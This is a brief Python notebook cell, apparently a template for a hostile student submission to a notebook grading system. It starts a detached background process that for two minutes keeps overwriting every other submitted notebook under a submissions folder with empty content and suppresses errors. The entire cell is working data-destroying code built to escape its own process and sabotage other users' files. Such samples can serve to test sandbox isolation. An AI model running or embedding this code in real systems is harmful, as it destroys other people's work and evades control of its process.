# %% top
import subprocess
import sys

code = """
import glob, time
end = time.time() + 120
while time.time() < end:
    for path in glob.glob('ROOT/submitted/*/*/*.ipynb'):
        if 'STUDENT' not in path:
            try:
                open(path, 'w').write('{}')
            except OSError:
                pass
    time.sleep(0.05)
"""
subprocess.Popen([sys.executable, "-c", code], process_group=0)
